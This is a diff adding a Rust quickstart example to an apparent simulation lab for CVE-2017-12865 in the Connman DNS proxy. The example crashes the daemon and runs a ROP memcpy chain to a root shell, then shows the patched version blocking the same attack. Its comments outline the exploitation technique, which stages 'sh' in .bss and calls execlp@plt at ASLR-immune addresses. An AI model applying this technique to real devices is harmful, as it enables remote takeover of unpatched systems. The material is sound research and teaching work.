@@ -1,0 +1,47 @@
+//! Quickstart: boot a vulnerable firmware, crash it, exploit it.
+//!
+//! ```text
+//! cargo run --example quickstart
+//! ```
+
+use connman_lab::exploit::strategies::DosCrash;
+use connman_lab::exploit::RopMemcpyChain;
+use connman_lab::{Arch, AttackOutcome, FirmwareKind, Lab, Protections};
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    println!("connman-lab quickstart: CVE-2017-12865 in simulation\n");
+
+    // 1. An OpenELEC-style firmware (Connman 1.34) on ARMv7, with both
+    //    W⊕X and ASLR enabled — the paper's hardest configuration.
+    let lab = Lab::new(FirmwareKind::OpenElec, Arch::Armv7)
+        .with_protections(Protections::full());
+    println!(
+        "target: {} on {}, protections: {}",
+        lab.firmware().kind(),
+        lab.firmware().arch(),
+        lab.protections().label()
+    );
+
+    // 2. Denial of service: an oversized Type-A response kills the
+    //    daemon at every protection level.
+    let dos = lab.run_exploit(&DosCrash::new())?;
+    println!("\n[1] oversized response  → {}", dos.outcome);
+
+    // 3. Remote code execution: the ROP memcpy-chain stages "sh" in
+    //    .bss through memcpy@plt and calls execlp@plt — all via
+    //    ASLR-immune addresses.
+    let rce = lab.run_exploit(&RopMemcpyChain::new(Arch::Armv7))?;
+    println!("[2] ROP memcpy chain    → {}", rce.outcome);
+    println!("\ngenerated chain (cf. paper Listing 5):\n{}", rce.listing);
+    assert_eq!(rce.outcome, AttackOutcome::RootShell);
+
+    // 4. The patched firmware (Connman 1.35) shrugs both off:
+    //    reconnaissance cannot even crash it.
+    let patched = Lab::new(FirmwareKind::Patched, Arch::Armv7)
+        .with_protections(Protections::full());
+    match patched.run_exploit(&RopMemcpyChain::new(Arch::Armv7)) {
+        Err(e) => println!("[3] same attack vs Connman 1.35 → blocked: {e}"),
+        Ok(r) => println!("[3] unexpected: {}", r.outcome),
+    }
+    Ok(())
+}
